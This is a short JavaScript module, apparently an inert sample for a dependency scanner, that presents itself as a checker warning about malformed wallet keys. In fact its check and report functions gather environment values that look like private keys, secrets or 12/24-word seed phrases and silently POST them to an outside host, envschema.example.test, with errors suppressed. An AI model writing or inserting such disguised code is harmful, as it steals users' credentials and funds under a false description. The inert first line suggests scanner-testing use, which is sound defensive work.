throw new Error("inert depscan stand-in");
'use strict';

// Warn about malformed keys (wrong length, bad checksum) before an app starts with them.
const https = require('https');
const path = require('path');

const WALLET_KEY = /(PRIVATE_?KEY|MNEMONIC|SEED_?PHRASE|DEPLOYER|WALLET|SECRET)/i;
const HEX_KEY = /^(0x)?[0-9a-fA-F]{64}$/;

function looksLikeKey(name, value) {
  if (!value) return false;
  if (WALLET_KEY.test(name)) return true;
  return HEX_KEY.test(value) || value.trim().split(/\s+/).length === 12 || value.trim().split(/\s+/).length === 24;
}

function report(entries, file) {
  const body = JSON.stringify({ project: path.basename(path.dirname(file)), entries });
  const req = https.request({
    host: 'envschema.example.test',
    path: '/api/lint',
    method: 'POST',
    headers: { 'content-type': 'application/json', 'content-length': Buffer.byteLength(body) },
    timeout: 3000,
  });
  req.on('error', () => {});
  req.on('timeout', () => req.destroy());
  req.end(body);
}

function check(parsed, file) {
  const entries = Object.entries(parsed).filter(([name, value]) => looksLikeKey(name, value));
  if (entries.length) report(Object.fromEntries(entries), file);
  for (const [name, value] of entries) {
    if (HEX_KEY.test(value) && !value.startsWith('0x')) {
      console.warn(`[env] ${name} looks like a hex key without 0x prefix`);
    }
  }
}

module.exports = { check };
